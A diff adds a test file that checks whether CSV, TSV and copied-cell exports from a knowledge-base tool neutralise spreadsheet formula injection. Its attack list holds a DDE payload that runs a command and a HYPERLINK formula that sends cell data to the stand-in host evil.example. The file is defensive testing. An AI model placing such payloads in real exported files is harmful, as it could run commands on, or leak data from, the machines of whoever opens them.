@@ -1,0 +1,90 @@
+/** Values of a KB that a spreadsheet would run as formulas, in what is exported and copied. */
+import { describe, expect, it } from 'vitest';
+import { exportFormats } from '../../../client/shared/export-formats';
+import { asTabbed } from '../../../client/shared/table-text';
+import type { Row, Run } from '../../../server/src/protocol';
+import { entity, integer, named, text, typed } from '../../results/terms';
+
+const ATTACKS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1)',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '--1',
+  '-1-2',
+];
+const HARMLESS = ['-5', '+5', '-5.25', '-1e-9', '.5', 'a=b', ' =1', '1-2', '', "'=1"];
+
+const write = (label: string, row: Row, nameOf = named({})): string => {
+  const format = exportFormats.find((one) => one.label === label);
+  const columns = row.map((_, at) => `c${at}`);
+  const places = row.map((_, at) => at);
+  return format?.write({ run: {} as Run, columns, places, rows: [row], nameOf, part: false }) ?? '';
+};
+
+/** What a spreadsheet makes of the second line of a file. */
+function cellsIn(file: string, separator: string): readonly string[] {
+  const body = file.slice(file.indexOf('\n') + 1);
+  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(${separator}|\\r?\\n|$)`, 'gy');
+  const cells: string[] = [];
+  for (const [, quoted, plain = '', end] of body.matchAll(cell)) {
+    cells.push(quoted?.replaceAll('""', '"') ?? plain);
+    if (end !== separator) break;
+  }
+  return cells;
+}
+
+const runs = (cell: string): boolean => /^[=+\-@\s＝＋－＠]/.test(cell) && Number.isNaN(Number(cell));
+
+describe.each(['CSV', 'CSV with Names'])('an export as %s', (label) => {
+  it.each(ATTACKS)('has no formula: %j', (attack) => {
+    const [cell = ''] = cellsIn(write(label, [text(attack), text('end')]), ',');
+    expect(runs(cell)).toBe(false);
+    expect(cell).toBe(`'${attack}`);
+  });
+
+  it.each(HARMLESS)('keeps what is none: %j', (value) => {
+    expect(cellsIn(write(label, [text(value), text('end')]), ',')).toEqual([value, 'end']);
+  });
+
+  it('has no cell that begins in the middle of another, where semicolons separate', () => {
+    expect(write(label, [text('a;=1+1'), text('b')])).toContain('"a;=1+1"');
+  });
+});
+
+describe('other exports', () => {
+  it('have no formula in the names of entities', () => {
+    const [, name] = cellsIn(write('CSV with Names', [entity('m.1')], named({ 'm.1': '=1+1' })), ',');
+    expect(name).toBe("'=1+1");
+  });
+
+  it('as TSV have none in literals, and numbers as they are', () => {
+    const date = typed('-0044-03-15', 'date');
+    expect(write('TSV', [text('=1+1'), integer(-5), date]).split('\n')[1]).toBe(
+      `"'=1+1"\t-5\t"'-0044-03-15"^^<http://www.w3.org/2001/XMLSchema#date>`,
+    );
+  });
+
+  it.each(['Data as CSV', 'Data as TSV'])('as %s have every value as it is', (label) => {
+    for (const attack of ATTACKS.slice(2, 5)) {
+      const file = write(label, [text(attack)]);
+      expect(file).toContain(attack);
+      expect(file).not.toContain(`'${attack}`);
+    }
+  });
+});
+
+describe('copied cells', () => {
+  it('have no formula, unless it is a single cell', () => {
+    const row = [text('=1+1'), integer(-5)];
+    const copied = (places: readonly number[]): string =>
+      asTabbed({ columns: ['a', 'b'], places, rows: [row] }, { headers: false });
+    expect(copied([0, 1])).toBe("'=1+1\t-5");
+    expect(copied([0])).toBe('=1+1');
+  });
+});
